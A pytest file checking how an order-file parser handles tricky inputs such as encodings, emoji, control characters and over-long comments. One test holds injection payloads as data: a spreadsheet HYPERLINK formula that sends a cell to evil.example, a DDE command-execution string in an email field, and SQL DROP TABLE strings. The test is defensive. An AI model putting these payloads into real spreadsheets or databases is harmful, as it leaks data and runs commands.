"""Every bad or tricky file in tests/orders/corpus/ gives the outcome written in corpus/expected.json.

expected.json: {file: {"unreadable": "reason substring"}} or
               {file: {"orders": n_good, "rejected": n_bad, "line_problems": n[, "format": name]}}
"""

from __future__ import annotations

import json

import pytest
from formats_helpers import CORPUS

from shopsync.orders.formats import parse_order_file
from shopsync.orders.model import ParsedFile, UnreadableFile

EXPECTED: dict[str, dict] = json.loads((CORPUS / "expected.json").read_text(encoding="utf-8"))


def _parse(name: str) -> ParsedFile:
    return parse_order_file((CORPUS / name).read_bytes(), name)


def test_every_corpus_file_has_an_expectation():
    files = {path.name for path in CORPUS.iterdir()} - {"expected.json"}
    assert files == set(EXPECTED)
    assert len(files) >= 25


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_corpus_file_outcome(name: str):
    expected = EXPECTED[name]
    if "unreadable" in expected:
        with pytest.raises(UnreadableFile) as caught:
            _parse(name)
        assert expected["unreadable"] in str(caught.value)
        return
    parsed = _parse(name)
    outcome = {
        "orders": len(parsed.orders),
        "rejected": len(parsed.rejected),
        "line_problems": sum(len(line.problems) for order in parsed.orders for line in order.lines),
        "format": parsed.format,
    }
    assert {key: outcome[key] for key in expected} == expected, parsed.rejected


def test_formula_and_sql_strings_survive_intact():
    order = _parse("formula_and_sql_strings.json").orders[0]
    assert order.customer.full_name == '=HYPERLINK("http://evil.example/?q="&A1,"Натисни")'
    assert order.customer.address == "Robert'); DROP TABLE customers;--"
    assert order.customer.email == "+cmd|' /C calc'!A0@example.com"
    assert order.comment == "'; DROP TABLE invoices; --"


def test_emoji_survive():
    order = _parse("emoji.json").orders[0]
    assert order.customer.full_name == "Оля 🌸 Коваль"
    assert order.comment == "Дякую! 😊👍 Упакуйте як подарунок 🎁"


def test_control_characters_are_removed():
    order = _parse("control_characters.json").orders[0]
    assert order.customer.full_name == "Іван Петренко"
    assert order.comment == "рядок 1\nрядок 2\tтабдзвінок"


def test_unknown_goods_are_kept_for_the_database_lookup():
    lines = _parse("unknown_goods.json").orders[0].lines
    assert [(line.good_ref, line.good_id) for line in lines] == [
        ("99999999999999", None), ("ABC-12", None), ("0", None), ("2147483647", 2147483647),
    ]


def test_cp1251_and_bom_files_read_like_utf8():
    assert _parse("cp1251_valid.json").orders[0].comment == "Доставка до під'їзду, дзвінок за годину"
    assert _parse("utf8_bom_valid.json").orders[0].external_number == "BOM-1"


def test_mixed_file_keeps_the_good_orders():
    parsed = _parse("mixed_good_and_bad.json")
    assert [order.external_number for order in parsed.orders] == ["M-1", "M-5", "M-6"]
    assert [rejected.position for rejected in parsed.rejected] == [2, 3, 4, 7]


def test_a_lone_surrogate_escape_becomes_a_replacement_character():
    order = _parse("hostile_lone_surrogate.json").orders[0]
    assert order.customer.full_name == "Іван \ufffd Іваненко"
    assert order.customer.full_name.encode("utf-8")


def test_an_over_long_comment_is_cut_with_a_warning():
    order = _parse("hostile_long_comment.json").orders[0]
    assert len(order.comment) == 2000 and order.comment.startswith("Передзвоніть!") and order.comment.endswith("…")
    assert order.warnings == ["the comment was 11,199 characters long; only the first 2000 are kept"]
